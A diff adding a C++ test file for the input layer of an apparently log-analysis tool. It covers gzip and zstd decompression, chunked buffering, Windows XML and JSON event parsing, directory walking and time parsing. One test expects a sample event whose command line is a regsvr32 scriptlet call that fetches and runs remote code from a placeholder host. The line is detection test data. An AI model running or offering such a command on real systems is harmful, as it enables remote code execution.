@@ -1,0 +1,216 @@
+// Decompression and streaming: gzip (also multi-member), zstd, chunk boundaries.
+#include <gtest/gtest.h>
+#include <zlib.h>
+#include <zstd.h>
+
+#include <string>
+
+#include "io/stream.h"
+#include "io/time_parse.h"
+#include "io_test_util.h"
+
+namespace splinter::io::testing {
+
+int64_t utc_us(int y, int mo, int d, int h, int mi, int s) {
+  return ((days_from_civil(y, unsigned(mo), unsigned(d)) * 24 + h) * 60 + mi) * 60 * 1000000LL +
+         s * 1000000LL;
+}
+
+namespace {
+
+std::string gzip(const std::string& in) {
+  z_stream zs{};
+  EXPECT_EQ(deflateInit2(&zs, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
+  std::string out(deflateBound(&zs, uLong(in.size())) + 64, '\0');
+  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
+  zs.avail_in = uInt(in.size());
+  zs.next_out = reinterpret_cast<Bytef*>(out.data());
+  zs.avail_out = uInt(out.size());
+  EXPECT_EQ(deflate(&zs, Z_FINISH), Z_STREAM_END);
+  out.resize(zs.total_out);
+  deflateEnd(&zs);
+  return out;
+}
+
+std::string zstd(const std::string& in) {
+  std::string out(ZSTD_compressBound(in.size()), '\0');
+  size_t n = ZSTD_compress(out.data(), out.size(), in.data(), in.size(), 3);
+  EXPECT_FALSE(ZSTD_isError(n));
+  out.resize(n);
+  return out;
+}
+
+std::string read_all(ByteSource& src, size_t piece) {
+  std::string out, buf(piece, '\0');
+  for (size_t n; (n = src.read(buf.data(), buf.size())) > 0;) out.append(buf, 0, n);
+  return out;
+}
+
+std::string big_text() {
+  std::string s;
+  for (int i = 0; i < 200000; ++i) s += "line " + std::to_string(i) + " some text\n";
+  return s;
+}
+
+TEST(IoStream, PlainFile) {
+  TempDir d;
+  std::string text = big_text();
+  ByteSource src;
+  ASSERT_TRUE(src.open(d.file("a.txt", text)));
+  EXPECT_EQ(src.compression(), Compression::None);
+  EXPECT_EQ(read_all(src, 7777), text);
+}
+
+TEST(IoStream, GzipRoundTrip) {
+  TempDir d;
+  std::string text = big_text();
+  ByteSource src;
+  ASSERT_TRUE(src.open(d.file("a.gz", gzip(text))));
+  EXPECT_EQ(src.compression(), Compression::Gzip);
+  EXPECT_EQ(read_all(src, 65536), text);
+  EXPECT_EQ(src.error(), "");
+}
+
+TEST(IoStream, GzipMultiMember) {
+  TempDir d;
+  std::string a = "first member\n", b = big_text(), c = "third\n";
+  ByteSource src;
+  ASSERT_TRUE(src.open(d.file("m.gz", gzip(a) + gzip(b) + gzip(c))));
+  EXPECT_EQ(read_all(src, 1000), a + b + c);
+  EXPECT_EQ(src.error(), "");
+}
+
+TEST(IoStream, GzipTruncatedReportsError) {
+  TempDir d;
+  std::string z = gzip(big_text());
+  ByteSource src;
+  ASSERT_TRUE(src.open(d.file("t.gz", z.substr(0, z.size() / 2))));
+  std::string got = read_all(src, 4096);
+  EXPECT_FALSE(got.empty());
+  EXPECT_NE(src.error(), "");
+}
+
+TEST(IoStream, ZstdRoundTripAndConcatenatedFrames) {
+  TempDir d;
+  std::string text = big_text();
+  ByteSource src;
+  ASSERT_TRUE(src.open(d.file("a.zst", zstd(text) + zstd("tail\n"))));
+  EXPECT_EQ(src.compression(), Compression::Zstd);
+  EXPECT_EQ(read_all(src, 100000), text + "tail\n");
+  EXPECT_EQ(src.error(), "");
+}
+
+TEST(IoStream, MissingFile) {
+  ByteSource src;
+  EXPECT_FALSE(src.open("/nonexistent/splinter/file"));
+  EXPECT_NE(src.error(), "");
+}
+
+TEST(IoStream, BufferTracksOffsetAndLines) {
+  std::string text = "a\nbb\nccc\n";
+  ByteSource src;
+  src.open_memory(text.data(), text.size());
+  StreamBuffer sb(src, 2);  // tiny chunks: every record crosses a boundary
+  while (sb.fill()) {
+  }
+  EXPECT_EQ(sb.avail(), text.size());
+  sb.consume(5);
+  EXPECT_EQ(sb.offset(), 5u);
+  EXPECT_EQ(sb.line(), 3u);
+}
+
+TEST(IoReadInputs, GzipAndZstdXmlFilesGiveSameEvents) {
+  std::string c01 = slurp(shared_dir() + "/cases/C01.xml");
+  if (c01.empty()) GTEST_SKIP() << "shared cases absent";
+  TempDir d;
+  std::string p1 = d.file("c.xml.gz", gzip(c01));
+  std::string p2 = d.file("c.xml.zst", zstd(c01));
+  CollectSink s;
+  auto stats = read_inputs({p1, p2}, s);
+  ASSERT_EQ(stats.size(), 2u);
+  ASSERT_EQ(s.events.size(), 2u);
+  for (const auto& st : stats) {
+    EXPECT_EQ(st.format, Format::XmlWinEventLog);
+    EXPECT_EQ(st.parsed, 1u);
+    EXPECT_EQ(st.rejected, 0u);
+    EXPECT_EQ(st.bytes, c01.size());
+  }
+  EXPECT_EQ(s.events[0].at("CommandLine"),
+            "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
+  EXPECT_EQ(s.events[0].fields.size(), s.events[1].fields.size());
+}
+
+TEST(IoReadInputs, GzipJsonLinesSpanningManyChunks) {
+  TempDir d;
+  std::string text;
+  for (int i = 0; i < 30000; ++i)
+    text += R"({"EventID": 4688, "Hostname": "H", "CommandLine": "cmd.exe /c echo )" + std::to_string(i) +
+            R"(", "EventTime": "2024-01-02 03:04:05"})" + "\n";
+  CollectSink s;
+  auto stats = read_inputs({d.file("j.json.gz", gzip(text))}, s);
+  ASSERT_EQ(stats.size(), 1u);
+  EXPECT_EQ(stats[0].format, Format::Json);
+  EXPECT_EQ(stats[0].parsed, 30000u);
+  EXPECT_EQ(stats[0].rejected, 0u);
+  ASSERT_EQ(s.events.size(), 30000u);
+  EXPECT_EQ(s.events[29999].at("CommandLine"), "cmd.exe /c echo 29999");
+  EXPECT_EQ(s.events[29999].line, 30000u);
+  EXPECT_EQ(s.events[12345].time_us, utc_us(2024, 1, 2, 3, 4, 5));
+}
+
+TEST(IoReadInputs, MissingPathAndDirectoryWalk) {
+  TempDir d;
+  d.file("b/2.xml", slurp(shared_dir() + "/cases/C01.xml") + "\n");
+  d.file("a/1.json", R"({"EventID": 1, "Hostname": "X"})");
+  d.file("c.txt", "hello world\n");
+  CollectSink s;
+  auto stats = read_inputs({d.path(), d.path() + "/missing.xml"}, s);
+  ASSERT_EQ(stats.size(), 4u);
+  EXPECT_EQ(stats[0].path, d.path() + "/a/1.json");
+  EXPECT_EQ(stats[0].format, Format::Json);
+  EXPECT_EQ(stats[1].path, d.path() + "/b/2.xml");
+  EXPECT_EQ(stats[2].format, Format::Unknown);
+  EXPECT_TRUE(stats[3].failed);
+  bool unrecognised = false, missing = false;
+  for (const auto& p : s.problems) {
+    unrecognised |= p.what == "unrecognised format" && p.file == d.path() + "/c.txt";
+    missing |= p.file == d.path() + "/missing.xml";
+  }
+  EXPECT_TRUE(unrecognised);
+  EXPECT_TRUE(missing);
+}
+
+TEST(IoReadInputs, GarbageNeverThrows) {
+  TempDir d;
+  std::string junk;
+  uint32_t x = 12345;
+  for (int i = 0; i < 200000; ++i) {
+    x = x * 1103515245 + 12345;
+    junk += char(x >> 24);
+  }
+  std::vector<std::string> paths = {d.file("j1", "{" + junk), d.file("j2", "<" + junk),
+                                    d.file("j3", "[" + junk), d.file("j4", "<Event " + junk),
+                                    d.file("j5", gzip(junk).substr(0, 10))};
+  CollectSink s;
+  std::vector<FileStats> stats;
+  EXPECT_NO_THROW(stats = read_inputs(paths, s));
+  EXPECT_EQ(stats.size(), paths.size());
+  for (const auto& st : stats) EXPECT_EQ(st.read, st.parsed + st.rejected);
+}
+
+TEST(IoTime, IsoForms) {
+  int64_t base = utc_us(2024, 5, 14, 9, 15, 2);
+  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02.4471234Z"), base + 447123);
+  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02Z"), base);
+  EXPECT_EQ(parse_iso_time("2024-05-14 09:15:02.529"), base + 529000);
+  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02.1+00:00"), base + 100000);
+  EXPECT_EQ(parse_iso_time("2024-05-14T11:15:02+02:00"), base);
+  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02"), base);
+  EXPECT_EQ(parse_iso_time("garbage"), kNoTime);
+  EXPECT_EQ(parse_iso_time("2024-13-14T09:15:02Z"), kNoTime);
+  EXPECT_EQ(parse_classic_time("01/14/2021 11:41:39 PM"), utc_us(2021, 1, 14, 23, 41, 39));
+  EXPECT_EQ(parse_classic_time("01/14/2021 12:01:00 AM"), utc_us(2021, 1, 14, 0, 1, 0));
+}
+
+}  // namespace
+}  // namespace splinter::io::testing
